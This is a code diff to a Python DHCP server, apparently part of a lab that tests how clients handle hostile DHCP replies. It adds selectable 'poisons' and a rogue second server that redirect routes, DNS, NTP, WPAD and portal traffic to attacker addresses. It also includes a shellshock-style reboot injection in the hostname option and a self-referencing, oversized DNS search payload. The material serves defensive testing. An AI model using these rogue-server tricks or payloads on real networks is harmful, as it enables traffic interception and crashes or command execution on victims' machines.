@@ -7,6 +7,7 @@ import ipaddress
 import secrets
 import socket
 import struct
+from collections.abc import Callable, Iterable
 from dataclasses import dataclass, field
 
 from . import names
@@ -20,6 +21,7 @@ _HEADER = struct.Struct("!4BIHH4s4s4s4s16s64s128s")
 OPTION_MASK, OPTION_ROUTER, OPTION_DNS, OPTION_HOSTNAME = 1, 3, 6, 12
 OPTION_DOMAIN, OPTION_MTU, OPTION_STATIC_ROUTE, OPTION_NTP = 15, 26, 33, 42
 OPTION_REQUESTED, OPTION_LEASE_TIME, OPTION_TYPE, OPTION_SERVER = 50, 51, 53, 54
+OPTION_NETBIOS, OPTION_PORTAL = 44, 114
 OPTION_SEARCH, OPTION_CLASSLESS_ROUTES, OPTION_MS_ROUTES, OPTION_WPAD = 119, 121, 249, 252
 _PAD, _END = 0, 255
 _HUGE_BYTES = 1000
@@ -76,8 +78,13 @@ def discover(mac: str) -> Message:
 class Server:
     """Answers what is asked, and keeps nothing: a node's lease is always the same."""
 
-    def __init__(self, hostile: bool) -> None:
-        self._hostile = hostile
+    identity = names.ROUTER_ADDRESS
+
+    def __init__(self, poisons: Iterable[str] = ()) -> None:
+        """@poisons: names of POISONS; what else it says is honest."""
+        self._options = _honest_options()
+        for poison in sorted(poisons):
+            self._options |= POISONS[poison]()
 
     def reply(self, data: bytes, _: tuple) -> bytes | None:
         question = decode(data)
@@ -86,13 +93,34 @@ class Server:
         kind = {bytes([DISCOVER]): OFFER, bytes([REQUEST]): ACK}.get(
             question.options.get(OPTION_TYPE, b"")
         )
-        if kind is None:
+        lease = self._lease(question.mac)
+        own = socket.inet_aton(self.identity)
+        if kind is None or not lease or question.options.get(OPTION_SERVER, own) != own:
             return None
-        answer = Message(BOOT_REPLY, question.transaction, question.mac, _lease(question.mac))
-        answer.options = {OPTION_TYPE: bytes([kind])} | _honest_options()
-        if self._hostile:
-            answer.options |= _hostile_options()
+        answer = Message(BOOT_REPLY, question.transaction, question.mac, lease)
+        answer.options = {OPTION_TYPE: bytes([kind])} | self._options
         return answer.encode()
+
+    def _lease(self, mac: bytes) -> str:
+        """The address for the asker; empty: it is not answered."""
+        return _lease(mac)
+
+
+class RogueServer(Server):
+    """A second one, on another computer of the LAN, that leads past the router. It does not answer
+    the lab's own nodes."""
+
+    identity = names.GUEST_ADDRESS
+
+    def __init__(self) -> None:
+        super().__init__()
+        gateway = socket.inet_aton(names.HOSTILE_GATEWAY)
+        self._options |= {OPTION_SERVER: socket.inet_aton(self.identity), OPTION_ROUTER: gateway,
+                          OPTION_DNS: gateway}  # fmt: skip
+
+    def _lease(self, mac: bytes) -> str:
+        known = {names.MACS[node] for node in names.LAN_NODES}
+        return "" if mac.hex(":") in known else names.ROGUE_LEASE
 
 
 def server_socket(device: str) -> socket.socket:
@@ -126,22 +154,65 @@ def _honest_options() -> dict[int, bytes]:
     }
 
 
-def _hostile_options() -> dict[int, bytes]:
+def _routes() -> dict[int, bytes]:
+    """Routes of one's own, past the default route: in every form that clients know."""
     gateway = socket.inet_aton(names.HOSTILE_GATEWAY)
     routes = _classless_route(names.HOSTILE_ROUTE) + _classless_route("0.0.0.0/1")
     return {
-        OPTION_DNS: socket.inet_aton(names.ROGUE_ADDRESS),
-        OPTION_NTP: socket.inet_aton(names.ROGUE_ADDRESS),
         OPTION_CLASSLESS_ROUTES: routes,
         OPTION_MS_ROUTES: routes,
         OPTION_STATIC_ROUTE: socket.inet_aton(names.TIME_ADDRESS) + gateway,
+    }
+
+
+def _servers() -> dict[int, bytes]:
+    """Servers that a client would talk to at once."""
+    rogue = socket.inet_aton(names.ROGUE_ADDRESS)
+    return {
+        OPTION_DNS: rogue,
+        OPTION_NTP: rogue,
+        OPTION_NETBIOS: rogue,
         OPTION_WPAD: names.HOSTILE_WPAD.encode(),
-        OPTION_MTU: struct.pack("!H", 68),
+        OPTION_PORTAL: names.HOSTILE_PORTAL.encode(),
+    }
+
+
+def _names() -> dict[int, bytes]:
+    """Names that a careless client gives to a shell, or goes on to tell others."""
+    return {
         OPTION_HOSTNAME: b"() { :;}; `reboot` $(reboot) %n%n",
         OPTION_DOMAIN: b"attacker.invalid",
-        # A compression pointer to itself, then more than a careless client has room for.
-        OPTION_SEARCH: b"\xc0\x00" + b"\x3f" + b"a" * _HUGE_BYTES,
     }
+
+
+def _search() -> dict[int, bytes]:
+    """Domains in which every name would be looked up, well-formed."""
+    domains = (b"attacker", b"invalid"), (b"home", b"arpa")
+    encoded = b"".join(b"".join(bytes([len(p)]) + p for p in d) + b"\0" for d in domains)
+    return {OPTION_DOMAIN: b"attacker.invalid", OPTION_SEARCH: encoded}
+
+
+def _huge() -> dict[int, bytes]:
+    """A compression pointer to itself, then more than a careless client has room for."""
+    return {OPTION_SEARCH: b"\xc0\x00" + b"\x3f" + b"a" * _HUGE_BYTES}
+
+
+def _mtu() -> dict[int, bytes]:
+    return {OPTION_MTU: struct.pack("!H", 68)}
+
+
+# What can be wrong with a server's answers, each by itself.
+POISONS: dict[str, Callable[[], dict[int, bytes]]] = {
+    "routes": _routes,
+    "servers": _servers,
+    "names": _names,
+    "search": _search,
+    "huge": _huge,
+    "mtu": _mtu,
+}
+SECOND_SERVER = "second"  # not of the answers: another server answers, too
+# All at once, as the hostile router has it: of two that use the same option, one.
+HOSTILE = tuple(name for name in POISONS if name != "search") + (SECOND_SERVER,)
 
 
 def _classless_route(prefix: str) -> bytes:
